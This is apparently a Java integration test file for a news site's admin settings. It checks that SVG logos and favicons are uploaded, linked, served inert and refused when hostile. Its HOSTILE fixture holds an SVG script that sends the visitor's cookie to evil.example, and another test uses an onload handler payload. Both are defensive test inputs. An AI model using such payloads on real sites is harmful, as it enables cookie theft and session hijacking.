package dev.byline.admin;

import static org.assertj.core.api.Assertions.assertThat;

import dev.byline.auth.Role;
import dev.byline.testing.AdminClient;
import dev.byline.testing.TestImages;
import dev.byline.testing.TestSite;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.io.TempDir;

/**
 * SVG logos and favicons over real HTTP: uploaded through the settings form, shown in every page's
 * header and head, served so that not even a direct visit can run anything, and a hostile drawing
 * refused with its line named while the logo before it stays.
 */
@TestInstance(Lifecycle.PER_CLASS)
class SvgLogoHttpTest {
  static final String PASSWORD = "correct horse battery staple";

  static final String LOGO = """
      <?xml version="1.0" encoding="UTF-8"?>
      <!-- exported from a drawing tool -->
      <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 240 40">
        <title>Harbour Herald</title>
        <rect width="40" height="40" rx="6" fill="#0b4f8a"/>
        <text x="50" y="28" font-family="Georgia, serif" font-size="22">Harbour Herald</text>
      </svg>
      """;

  static final String DARK = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 240 40\">"
      + "<rect width=\"40\" height=\"40\" rx=\"6\" fill=\"#ffffff\"/></svg>";

  static final String ICON = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 32 32\">"
      + "<circle cx=\"16\" cy=\"16\" r=\"15\" fill=\"#c8102e\"/></svg>";

  static final String HOSTILE = """
      <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 240 40">
        <rect width="40" height="40"/>
        <script>document.location = 'https://evil.example/?c=' + document.cookie</script>
      </svg>
      """;

  @TempDir
  static Path dir;

  TestSite site;
  AdminClient admin;

  @BeforeAll
  void start() {
    site = TestSite.start(dir);
    site.byline()
        .accounts()
        .users()
        .create("ada@example.org", "Ada Admin", Role.ADMIN, PASSWORD, false);
    admin = new AdminClient(site).signIn("ada@example.org", PASSWORD);
  }

  @AfterAll
  void stop() {
    site.close();
  }

  private Map<String, String> form() {
    return SiteSettingsHttpTest.form(admin, Map.of());
  }

  /** The picture a field of the form has chosen (after an upload: the one uploaded). */
  private dev.byline.media.Image chosen(String field) {
    var id = Long.parseLong(form().get(field));
    return site.newsroom().images().byId(id).orElseThrow();
  }

  private java.net.http.HttpResponse<String> upload(String field, String name, String svg) {
    return admin.postMultipart(
        "/admin/settings", form(), field, name, svg.getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void
      an_svg_logo_and_favicon_uploaded_through_the_form_show_on_the_front_page_and_are_served_inert() {
    var page = admin.get("/admin/settings").body();
    assertThat(page)
        .contains("id=\"logoFile\" name=\"logoFile\" type=\"file\" accept=\"image/png,image/jpeg,"
            + "image/webp,image/gif,image/svg+xml\"")
        .contains("id=\"socialImageFile\" name=\"socialImageFile\" type=\"file\" "
            + "accept=\"image/png,image/jpeg,image/webp,image/gif\"");

    var r = upload("logoFile", "logo.svg", LOGO);
    assertThat(r.statusCode()).as(r.body()).isEqualTo(303);
    var logo = chosen("logo");
    assertThat(logo.mime()).isEqualTo("image/svg+xml");
    assertThat(logo.width()).isEqualTo(240);
    assertThat(logo.height()).isEqualTo(40);
    var logoUrl = logo.src();
    assertThat(logoUrl).matches("/media/[0-9a-f]{2}/[0-9a-f]{24}-w240\\.svg");

    assertThat(upload("logoDarkFile", "dark.svg", DARK).statusCode()).isEqualTo(303);
    var darkUrl = chosen("logoDark").src();
    assertThat(upload("faviconFile", "icon.svg", ICON).statusCode()).isEqualTo(303);
    var iconUrl = chosen("favicon").src();

    var front = site.get("/").body();
    assertThat(front)
        .contains("<a class=\"brand\" href=\"/\"><picture><source srcset=\"" + darkUrl
            + "\" media=\"(prefers-color-scheme: dark)\"><img src=\"" + logoUrl
            + "\" alt=\"\" width=\"240\" height=\"40\"></picture><span>")
        .contains("<link rel=\"icon\" href=\"" + iconUrl + "\" type=\"image/svg+xml\">");

    var svg = site.get(logoUrl);
    assertThat(svg.statusCode()).isEqualTo(200);
    assertThat(svg.headers().firstValue("Content-Type")).hasValue("image/svg+xml");
    assertThat(svg.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    assertThat(svg.headers().allValues("Content-Security-Policy"))
        .containsExactly("default-src 'none'; style-src 'unsafe-inline'; sandbox");
    assertThat(svg.headers().firstValue("Cache-Control").orElseThrow())
        .contains("max-age=31536000", "immutable");
    assertThat(svg.body())
        .as("what is served is what was checked, written out again")
        .startsWith("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 240 40\">")
        .contains("<title>Harbour Herald</title>")
        .doesNotContain("<?xml", "<!--");
    var again =
        site.get(logoUrl, "If-None-Match", svg.headers().firstValue("ETag").orElseThrow());
    assertThat(again.statusCode()).isEqualTo(304);

    var original = logoUrl.replace("-w240.svg", ".svg");
    assertThat(site.get(original).statusCode()).as("originals are never served").isEqualTo(404);
    assertThat(admin.get("/admin/photos").statusCode())
        .as("the photo desk lists the drawings")
        .isEqualTo(200);
  }

  @Test
  void a_hostile_svg_is_refused_naming_its_line_and_the_logo_before_it_stays() {
    assertThat(upload("logoFile", "logo.svg", LOGO).statusCode()).isEqualTo(303);
    var before = site.get("/").body();
    int photos = site.newsroom().images().library("", 0, 1000).size();

    var r = upload("logoFile", "logo.svg", HOSTILE);
    assertThat(r.statusCode()).isEqualTo(400);
    assertThat(r.body())
        .contains(
            "Logo file was not stored: SVG logo line 3: element &lt;script&gt; is not allowed");
    assertThat(site.newsroom().images().library("", 0, 1000)).hasSize(photos);
    assertThat(site.get("/").body()).isEqualTo(before);

    var both = admin.postMultipartFiles(
        "/admin/settings",
        form(),
        new java.util.LinkedHashMap<>(Map.of(
            "logoFile", Map.entry("new-logo.png", TestImages.png(300, 60)),
            "faviconFile", Map.entry("icon.svg", HOSTILE.getBytes(StandardCharsets.UTF_8)))));
    assertThat(both.statusCode()).isEqualTo(400);
    assertThat(both.body())
        .contains("Favicon file was not stored: SVG favicon line 3: element &lt;script&gt;");
    assertThat(site.newsroom().images().library("", 0, 1000))
        .as("the good logo sent with it is not kept either")
        .hasSize(photos);

    var handler = upload(
        "faviconFile",
        "icon.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\" onload=\"alert(1)\"/>");
    assertThat(handler.statusCode()).isEqualTo(400);
    assertThat(handler.body())
        .contains("Favicon file was not stored: SVG favicon line 1: attribute onload on &lt;svg&gt;"
            + " is not allowed (event handlers run script)");
    assertThat(site.get("/").body()).isEqualTo(before);
  }

  @Test
  void a_raster_favicon_for_older_browsers_is_linked_before_the_svg_one() {
    assertThat(upload("faviconFile", "icon.svg", ICON).statusCode()).isEqualTo(303);
    var svgIcon = chosen("favicon");
    var r = admin.postMultipart(
        "/admin/settings", form(), "faviconFallbackFile", "icon.png", TestImages.png(192, 192));
    assertThat(r.statusCode()).as(r.body()).isEqualTo(303);
    var raster = chosen("faviconFallback").variantFor(192);
    assertThat(site.get("/").body())
        .contains("<link rel=\"icon\" href=\"" + raster.url() + "\" type=\"" + raster.mime()
            + "\">\n<link rel=\"icon\" href=\"" + svgIcon.src()
            + "\" type=\"image/svg+xml\">");

    var chosen = new java.util.HashMap<>(form());
    chosen.put("faviconFallback", Long.toString(svgIcon.id()));
    var refused = admin.postForm("/admin/settings", chosen);
    assertThat(refused.statusCode()).isEqualTo(400);
    assertThat(refused.body())
        .contains("Favicon for older browsers names photo " + svgIcon.id()
            + ", an SVG drawing; the fallback is for browsers that cannot show SVG icons");
  }

  @Test
  void an_svg_is_no_social_image() {
    assertThat(upload("logoFile", "logo.svg", LOGO).statusCode()).isEqualTo(303);
    var drawing = chosen("logo");
    var chosen = new java.util.HashMap<>(form());
    chosen.put("socialImage", Long.toString(drawing.id()));
    var r = admin.postForm("/admin/settings", chosen);
    assertThat(r.statusCode()).isEqualTo(400);
    assertThat(r.body())
        .contains("Default social image names photo " + drawing.id()
            + ", an SVG drawing; social networks show only JPEG, PNG, GIF or WebP pictures");

    var upload = upload("socialImageFile", "card.svg", LOGO);
    assertThat(upload.statusCode()).isEqualTo(400);
    assertThat(upload.body())
        .contains("Default social image file was not stored: the file is not a JPEG, PNG, GIF or"
            + " WebP image");
    assertThat(Pattern.compile("og:image").matcher(site.get("/").body()).find()).isFalse();
  }
}
